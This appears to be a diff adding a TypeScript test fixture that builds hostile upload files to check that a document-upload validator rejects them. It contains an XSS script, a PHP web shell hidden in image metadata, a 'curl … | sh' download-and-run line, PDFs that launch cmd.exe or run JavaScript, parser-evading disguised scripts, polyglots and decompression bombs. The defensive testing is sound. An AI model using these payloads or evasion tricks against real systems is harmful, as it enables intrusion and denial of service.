@@ -1,0 +1,506 @@
+import { createHash } from "node:crypto";
+import { deflateSync, gzipSync } from "node:zlib";
+import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";
+import type { Cause } from "../../functions/accept-uploads/causes.ts";
+import type { PaperType } from "../../shared/domain/filing.ts";
+import { type HostileFile, joined, zip } from "./corpus.ts";
+import { flate, objectStream, type RawPdf, rawPdf } from "./pdf-files.ts";
+import { chunk, heic, jpeg, jpegOfSize, jpegWith, pngHead, rawPng, segment } from "./photo-files.ts";
+
+const pdf = "application/pdf";
+const types = [pdf, "image/jpeg", "image/png", "image/heic"] as const satisfies readonly PaperType[];
+const ending: Readonly<Record<PaperType, string>> = {
+  "application/pdf": "pdf",
+  "image/jpeg": "jpg",
+  "image/png": "png",
+  "image/heic": "heic",
+};
+
+const file = (contentType: PaperType, name: string, bytes: Uint8Array, cause: Cause): HostileFile => ({
+  name,
+  fileName: `${name.replaceAll(" ", "-")}.${ending[contentType]}`,
+  contentType,
+  bytes,
+  cause,
+});
+
+/** A small true file of each type. */
+async function trueFiles(): Promise<Readonly<Record<PaperType, Buffer>>> {
+  return { [pdf]: rawPdf(), "image/jpeg": jpeg(), "image/png": rawPng(), "image/heic": await heic() };
+}
+
+const html = "<!doctype html><html><script>alert(document.domain)</script></html>";
+const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
+const exe = joined("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", Buffer.alloc(64), "PE\0\0", Buffer.alloc(256, 1));
+
+/** What is none of the types, under the name of each. */
+function otherTypes(): readonly HostileFile[] {
+  const others: Readonly<Record<string, Uint8Array>> = {
+    "a program of Windows": exe,
+    "a program of Linux": joined("\x7fELF\x02\x01\x01", Buffer.alloc(256)),
+    "a page of the web": joined(html),
+    "a drawing with a script": joined('<?xml version="1.0"?>', svg),
+    "a compressed folder": zip(),
+    "a document of Word with macros": zip("word/vbaProject.bin", "Attribute VB_Name"),
+    "an old document of Word": joined(Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(512)),
+    "a GIF": joined("GIF89a\x01\0\x01\0\0\0\0;"),
+    "a script of the shell": joined("#!/bin/sh\ncurl http://example.pe | sh\n"),
+  };
+  return Object.entries(others).flatMap(([name, bytes]) =>
+    types.map((type) => file(type, `${name} called ${ending[type]}`, bytes, "other-type")),
+  );
+}
+
+function emptyAndOther(own: Readonly<Record<PaperType, Buffer>>): readonly HostileFile[] {
+  const sha256 = createHash("sha256").update("another").digest("hex");
+  return types.flatMap((type): HostileFile[] => [
+    file(type, "nothing at all", new Uint8Array(), "empty"),
+    file(type, "only blanks", Buffer.alloc(64, 0x20), "other-type"),
+    { ...file(type, "other bytes than announced", own[type], "not-as-announced"), announced: { sha256 } },
+    { ...file(type, "fewer bytes than announced", own[type], "not-as-announced"), announced: { sizeBytes: 9_999_999 } },
+  ]);
+}
+
+function mistaken(own: Readonly<Record<PaperType, Buffer>>): readonly HostileFile[] {
+  return types.flatMap((type) =>
+    types
+      .filter((other) => other !== type)
+      .map((other) => file(type, `a ${ending[other]} called ${ending[type]}`, own[other], "other-type")),
+  );
+}
+
+function cutShort(own: Readonly<Record<PaperType, Buffer>>): readonly HostileFile[] {
+  const cut = (type: PaperType, part: number, cause: Cause) =>
+    file(type, `cut after ${part * 100} %`, own[type].subarray(0, Math.floor(own[type].length * part)), cause);
+  return [
+    cut(pdf, 0.5, "incomplete"),
+    cut(pdf, 0.9, "incomplete"),
+    file(pdf, "cut before its last words", own[pdf].subarray(0, own[pdf].lastIndexOf("startxref")), "incomplete"),
+    cut("image/jpeg", 0.3, "incomplete"),
+    cut("image/jpeg", 0.7, "incomplete"),
+    cut("image/jpeg", 0.99, "incomplete"),
+    cut("image/png", 0.8, "incomplete"),
+    cut("image/heic", 0.5, "incomplete"),
+    cut("image/heic", 0.95, "incomplete"),
+  ];
+}
+
+/** Two files in one: what comes behind, before or inside. */
+function polyglots(own: Readonly<Record<PaperType, Buffer>>): readonly HostileFile[] {
+  const behind: Readonly<Record<string, Uint8Array | string>> = {
+    "a compressed folder": zip(),
+    "a page of the web": html,
+    "a program": exe,
+  };
+  const zipped = zip();
+  zipped.writeUInt16LE("\n%%EOF\n".length, zipped.length - 2);
+  return [
+    ...types.flatMap((type) =>
+      Object.entries(behind).map(([name, more]) => file(type, `${name} behind`, joined(own[type], more), "two-in-one")),
+    ),
+    ...types.map((type) => file(type, "an archive behind", joined(own[type], "Rar!\x1a\x07\x01\0", "x"), "two-in-one")),
+    file(pdf, "a page of the web before it", joined(html, "\n", own[pdf]), "two-in-one"),
+    file(pdf, "a photo before it", joined(jpeg(16, 16), own[pdf]), "two-in-one"),
+    file(pdf, "a folder in a comment before its end", joined(rawPdf(), "%", zipped, "\n%%EOF\n"), "two-in-one"),
+    file(
+      pdf,
+      "an archive in a stream",
+      rawPdf({ objects: [{ dictionary: "", data: joined("7z\xbc\xaf\x27\x1c") }] }),
+      "two-in-one",
+    ),
+    file("image/jpeg", "a PDF in its note", jpegWith([segment(0xfe, "\n%PDF-1.7\n1 0 obj\n")]), "two-in-one"),
+    file(
+      "image/png",
+      "a PDF in its note",
+      rawPng({ notes: [chunk("tEXt", "Comment\0%PDF-1.7 1 0 obj")] }),
+      "two-in-one",
+    ),
+    file("image/jpeg", "another photo behind, unannounced", joined(jpeg(), jpeg(16, 16)), "two-in-one"),
+  ];
+}
+
+const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
+interface Scripted {
+  readonly name: string;
+  readonly cause: Cause;
+  readonly parts: Pick<RawPdf, "catalog" | "page" | "objects">;
+}
+const annotation = (text: string) => ({
+  page: "/Annots [4 0 R]",
+  objects: [`<< /Type /Annot /Rect [0 0 9 9] ${text} >>`],
+});
+const scripted: readonly Scripted[] = [
+  { name: "a script on opening", cause: "program", parts: { catalog: `/OpenAction ${script}` } },
+  {
+    name: "a script in a list of names",
+    cause: "program",
+    parts: { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` },
+  },
+  { name: "a script on a page", cause: "program", parts: { page: `/AA << /O ${script} >>` } },
+  { name: "a script on closing", cause: "program", parts: { catalog: `/AA << /WC ${script} >>` } },
+  { name: "a script on a link", cause: "program", parts: annotation(`/Subtype /Link /A ${script}`) },
+  {
+    name: "a script in a field",
+    cause: "program",
+    parts: annotation(`/Subtype /Widget /FT /Tx /AA << /K ${script} >>`),
+  },
+  {
+    name: "a script after a step",
+    cause: "program",
+    parts: annotation(`/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>`),
+  },
+  {
+    name: "a script with its name escaped",
+    cause: "program",
+    parts: { catalog: "/OpenAction << /S /J#61v#61Script /J#53 (1) >>" },
+  },
+  { name: "a program started", cause: "program", parts: { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" } },
+  {
+    name: "a program started by a link",
+    cause: "program",
+    parts: annotation("/Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >>"),
+  },
+  {
+    name: "a file inside",
+    cause: "other-files",
+    parts: {
+      catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
+      objects: ["<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"],
+    },
+  },
+  {
+    name: "a file in a note",
+    cause: "other-files",
+    parts: annotation("/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
+  },
+  { name: "a portfolio", cause: "other-files", parts: { catalog: "/Collection << /View /D >>" } },
+  {
+    name: "a way into a file inside",
+    cause: "other-files",
+    parts: { catalog: "/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>" },
+  },
+  { name: "a form of another language", cause: "live-form", parts: { catalog: "/AcroForm << /XFA (<xdp/>) >>" } },
+  {
+    name: "a form of another language in parts",
+    cause: "live-form",
+    parts: { catalog: "/AcroForm << /Fields [] /XFA [(config) 4 0 R] >>", objects: [flate(Buffer.from("<xdp/>"))] },
+  },
+  { name: "a video", cause: "media", parts: annotation("/Subtype /RichMedia") },
+  { name: "a film", cause: "media", parts: annotation("/Subtype /Movie /Movie << /F (a.avi) >>") },
+  { name: "a sound", cause: "media", parts: annotation("/Subtype /Sound") },
+  { name: "a screen", cause: "media", parts: annotation("/Subtype /Screen") },
+  { name: "a figure in three dimensions", cause: "media", parts: annotation("/Subtype /3D") },
+  { name: "a rendition", cause: "media", parts: { catalog: "/OpenAction << /S /Rendition /OP 0 >>" } },
+  {
+    name: "a form that sends itself",
+    cause: "acts-alone",
+    parts: annotation("/Subtype /Link /A << /S /SubmitForm /F (http://example.pe) >>"),
+  },
+  {
+    name: "a form that fills itself",
+    cause: "acts-alone",
+    parts: annotation("/Subtype /Link /A << /S /ImportData /F (a.fdf) >>"),
+  },
+  {
+    name: "a way into another file",
+    cause: "acts-alone",
+    parts: annotation("/Subtype /Link /A << /S /GoToR /F (//example.pe/a) /D [0 /Fit] >>"),
+  },
+  {
+    name: "a site on opening",
+    cause: "acts-alone",
+    parts: { catalog: "/OpenAction << /S /URI /URI (http://example.pe) >>" },
+  },
+  {
+    name: "a site on a page's opening",
+    cause: "acts-alone",
+    parts: { page: "/AA << /O << /S /URI /URI (http://example.pe) >> >>" },
+  },
+];
+
+/** The same in the open, and in a compressed stream of objects. */
+function actingPdfs(): readonly HostileFile[] {
+  return scripted.flatMap(({ name, cause, parts: { catalog = "", page = "", objects = [] } }) => {
+    const [own] = objects;
+    const inside: [number, string][] = [
+      [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
+      [2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"],
+      [3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>`],
+      ...(typeof own === "string" ? [[4, own] as [number, string]] : []),
+    ];
+    return [
+      file(pdf, name, rawPdf({ catalog, page, objects }), cause),
+      file(pdf, `${name} in compressed objects`, rawPdf({ objects: ["null", objectStream(inside)] }), cause),
+    ];
+  });
+}
+
+/** A PDF as its library writes it, with something added by that library. */
+async function byLibrary(): Promise<readonly HostileFile[]> {
+  const made = async (change: (document: PDFDocument) => unknown) => {
+    const document = await PDFDocument.create({ updateMetadata: false });
+    document.addPage();
+    await change(document);
+    return document.save();
+  };
+  return [
+    file(pdf, "a script by pdf-lib", await made((one) => one.addJavaScript("a", "app.alert(1)")), "program"),
+    file(pdf, "a file by pdf-lib", await made((one) => one.attach(exe, "carta.exe")), "other-files"),
+    file(
+      pdf,
+      "a launch by pdf-lib",
+      await made((one) =>
+        one.catalog.set(PDFName.of("OpenAction"), one.context.obj({ S: "Launch", F: PDFString.of("cmd.exe") })),
+      ),
+      "program",
+    ),
+  ];
+}
+
+/** Where one reader sees a script and another does not. */
+function disguised(): readonly HostileFile[] {
+  const harmless = "<< /S /GoTo /D [3 0 R /Fit] >>";
+  const early = rawPdf({ catalog: "/OpenAction 4 0 R", objects: [objectStream([[4, script]]), "null"] });
+  const update = joined("4 0 obj\n", harmless, "\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n");
+  const inside = objectStream([[6, "/ObjStm"]]);
+  const hidden = objectStream([[7, script]], "/Type 6 0 R");
+  return [
+    file(pdf, "a script that a later object covers", joined(early, update), "program"),
+    file(
+      pdf,
+      "a script in a comment",
+      joined(rawPdf({ catalog: "/OpenAction 9 0 R" }).subarray(0, -1), `\n% 9 0 obj ${script} endobj\n%%EOF\n`),
+      "program",
+    ),
+    file(
+      pdf,
+      "a stream of objects under another name",
+      rawPdf({ catalog: "/OpenAction 7 0 R", objects: [hidden, inside] }),
+      "damaged",
+    ),
+    file(
+      pdf,
+      "a stream of objects in an unusual code",
+      rawPdf({
+        objects: [
+          {
+            dictionary: "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode]",
+            data: joined(Buffer.from(`9 0 ${script}`).toString("hex"), ">"),
+          },
+        ],
+      }),
+      "too-hard",
+    ),
+  ];
+}
+
+const gigabyte = () => deflateSync(Buffer.alloc(1_000_000_000), { level: 9 });
+
+/** Small outside, too much inside. */
+function bombs(quick: boolean): readonly HostileFile[] {
+  const swollen = quick ? deflateSync(Buffer.alloc(130_000_000), { level: 9 }) : gigabyte();
+  const large = flate(Buffer.alloc(100_000_000));
+  const note = deflateSync(Buffer.alloc(64_000_000));
+  const kids = Array.from({ length: 501 }, (_, index) => `${index + 4} 0 R`).join(" ");
+  const manyPages = Array.from({ length: 501 }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>");
+  const stream = (more: string, data: Uint8Array) =>
+    rawPdf({ objects: [{ dictionary: `${more} /Filter /FlateDecode`, data }] });
+  return [
+    file(pdf, "a stream that swells", stream("", swollen), "too-much-inside"),
+    file(pdf, "a picture that swells", stream("/Subtype /Image /Width 9 /Height 9", swollen), "too-much-inside"),
+    file(
+      pdf,
+      "a stream compressed twice",
+      rawPdf({ objects: [{ dictionary: "/Filter [/FlateDecode /FlateDecode]", data: deflateSync(swollen) }] }),
+      "too-much-inside",
+    ),
+    file(
+      pdf,
+      "objects that swell",
+      stream("/Type /ObjStm /N 1 /First 4", deflateSync(Buffer.alloc(33_000_000, 0x20))),
+      "too-much-inside",
+    ),
+    file(
+      pdf,
+      "many streams that swell",
+      rawPdf({ objects: Array.from({ length: 6 }, () => large) }),
+      "too-much-inside",
+    ),
+    file(
+      pdf,
+      "an end of stream put early",
+      rawPdf({ objects: [{ dictionary: "/Filter /FlateDecode", data: joined(swollen, "\nendstream\n") }] }),
+      "too-much-inside",
+    ),
+    file(
+      pdf,
+      "too many pages",
+      rawPdf({ pages: `<< /Type /Pages /Kids [${kids}] /Count 501 >>`, objects: manyPages }),
+      "too-many-pages",
+    ),
+    file(
+      pdf,
+      "no pages",
+      joined(
+        "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
+      ),
+      "no-pages",
+    ),
+    file(pdf, "a page of the web inside", joined("%PDF-1.7\n", html, "\n%%EOF\n"), "no-pages"),
+    file(
+      pdf,
+      "a picture of 2,500 million points",
+      rawPdf({ objects: [flate(Buffer.alloc(64), "/Subtype /Image /Width 50000 /Height 50000")] }),
+      "too-many-pixels",
+    ),
+    file(pdf, "lists within lists", rawPdf({ objects: ["[".repeat(200_000)] }), "damaged"),
+    file(pdf, "an object without an end", rawPdf({ objects: ["<< /A (never closed"] }), "damaged"),
+    file(pdf, "a stream of gzip", joined("%PDF-1.7\n", gzipSync(Buffer.alloc(99)), "\n%%EOF\n"), "no-pages"),
+    file("image/jpeg", "65,535 points each way", jpegOfSize(65_535, 65_535), "too-many-pixels"),
+    file("image/jpeg", "no width", jpegOfSize(0, 100), "damaged"),
+    file(
+      "image/jpeg",
+      "without a picture",
+      joined(Buffer.from("ffd8", "hex"), segment(0xe0, "JFIF\0\x01\x01\0\0\x01\0\x01\0\0"), Buffer.from("ffd9", "hex")),
+      "damaged",
+    ),
+    file(
+      "image/jpeg",
+      "a part that says it has no length",
+      joined(Buffer.from("ffd8ffe00000", "hex"), jpeg().subarray(2)),
+      "damaged",
+    ),
+    file("image/jpeg", "a thousand scans", manyScans(), "too-much-inside"),
+    file(
+      "image/png",
+      "144 million points of one bit",
+      rawPng({ width: 12_000, height: 12_000, depth: 1 }),
+      "too-many-pixels",
+    ),
+    file(
+      "image/png",
+      "50,000 points each way",
+      rawPng({ width: 50_000, height: 50_000, picture: Buffer.alloc(64) }),
+      "too-many-pixels",
+    ),
+    file("image/png", "a picture that swells", rawPng({ picture: Buffer.alloc(64_000_000) }), "too-much-inside"),
+    file("image/png", "a picture that is too short", rawPng({ picture: Buffer.alloc(64) }), "incomplete"),
+    file(
+      "image/png",
+      "a note that swells",
+      rawPng({ notes: [chunk("zTXt", joined("Comment\0\0", note))] }),
+      "too-much-inside",
+    ),
+    file(
+      "image/png",
+      "a profile that swells",
+      rawPng({ notes: [chunk("iCCP", joined("icc\0\0", note))] }),
+      "too-much-inside",
+    ),
+    file(
+      "image/png",
+      "a moving picture",
+      rawPng({ notes: [chunk("acTL", Buffer.from([0, 0, 0x7f, 0xff, 0, 0, 0, 0]))] }),
+      "animated",
+    ),
+    file("image/png", "no picture", joined(pngHead, rawPng().subarray(8, 33), chunk("IEND", "")), "damaged"),
+    file("image/png", "no width", rawPng({ width: 0 }), "damaged"),
+  ];
+}
+
+function manyScans(): Buffer {
+  const photo = jpeg(16, 16);
+  const scan = photo.subarray(photo.indexOf(Buffer.from([0xff, 0xda])), -2);
+  return joined(photo.subarray(0, -2), ...Array.from({ length: 1_000 }, () => scan), photo.subarray(-2));
+}
+
+/** Code in what a picture carries besides itself. */
+function notes(): readonly HostileFile[] {
+  const php = "<?php system($_GET['c']); ?>";
+  const spoilt = Buffer.from(rawPng());
+  spoilt[20] = (spoilt[20] ?? 0) + 1;
+  return [
+    file("image/jpeg", "a script in its comment", jpegWith([segment(0xfe, html)]), "program"),
+    file("image/jpeg", "a script in its Exif", jpegWith([segment(0xe1, `Exif\0\0${php}`)]), "program"),
+    file(
+      "image/jpeg",
+      "a script in its XMP",
+      jpegWith([segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${svg}`)]),
+      "program",
+    ),
+    file("image/png", "a script in its text", rawPng({ notes: [chunk("tEXt", `Comment\0${html}`)] }), "program"),
+    file(
+      "image/png",
+      "a script in compressed text",
+      rawPng({ notes: [chunk("zTXt", joined("Comment\0\0", deflateSync(Buffer.from(php))))] }),
+      "program",
+    ),
+    file(
+      "image/png",
+      "a script in compressed text of the world",
+      rawPng({ notes: [chunk("iTXt", joined("xml\0\x01\0\0\0", deflateSync(Buffer.from(svg))))] }),
+      "program",
+    ),
+    file("image/png", "a sum that is wrong", spoilt, "damaged"),
+  ];
+}
+
+async function badHeics(): Promise<readonly HostileFile[]> {
+  const photo = await heic();
+  const sized = (width: number, height: number) => {
+    const bytes = Buffer.from(photo);
+    for (let at = bytes.indexOf("ispe"); at >= 0; at = bytes.indexOf("ispe", at + 4)) {
+      bytes.writeUInt32BE(width, at + 8);
+      bytes.writeUInt32BE(height, at + 12);
+    }
+    return bytes;
+  };
+  const avif = Buffer.from(photo);
+  avif.write("avif", 8, "latin1");
+  const without = Buffer.from(photo);
+  without.write("free", photo.indexOf("meta"), "latin1");
+  return [
+    file("image/heic", "another kind of picture", avif, "other-type"),
+    file("image/heic", "4,000 million points", sized(65_535, 65_535), "too-many-pixels"),
+    file("image/heic", "no width", sized(0, 64), "damaged"),
+    file("image/heic", "nothing said of it", without, "damaged"),
+    file("image/heic", "a film", joined(photo, Buffer.from([0, 0, 0, 8]), "moov"), "animated"),
+    file("image/heic", "only its head", photo.subarray(0, photo.readUInt32BE(0)), "damaged"),
+  ];
+}
+
+async function locked(): Promise<readonly HostileFile[]> {
+  const document = await PDFDocument.create({ updateMetadata: false });
+  document.addPage().drawText("Reclamo");
+  document.encrypt({ userPassword: "clave", ownerPassword: "otra" });
+  return [file(pdf, "a password", await document.save(), "password")];
+}
+
+/** Sound as it is built, and more than a reader can hold or has time for: only the thread's own limits stop it. */
+export function heavyFile(): HostileFile {
+  return file(
+    pdf,
+    "hundreds of thousands of objects",
+    rawPdf({ objects: Array.from({ length: 200_000 }, () => "<<>>") }),
+    "too-hard",
+  );
+}
+
+/** Files that no care in sending makes good, and one that cannot be read: none may pass. `quick` makes the bombs smaller. */
+export async function hostileFiles({ quick }: { readonly quick: boolean }): Promise<readonly HostileFile[]> {
+  const own = await trueFiles();
+  return [
+    ...otherTypes(),
+    ...emptyAndOther(own),
+    ...mistaken(own),
+    ...cutShort(own),
+    ...polyglots(own),
+    ...actingPdfs(),
+    ...(await byLibrary()),
+    ...disguised(),
+    ...bombs(quick),
+    ...notes(),
+    ...(await badHeics()),
+    ...(await locked()),
+  ];
+}
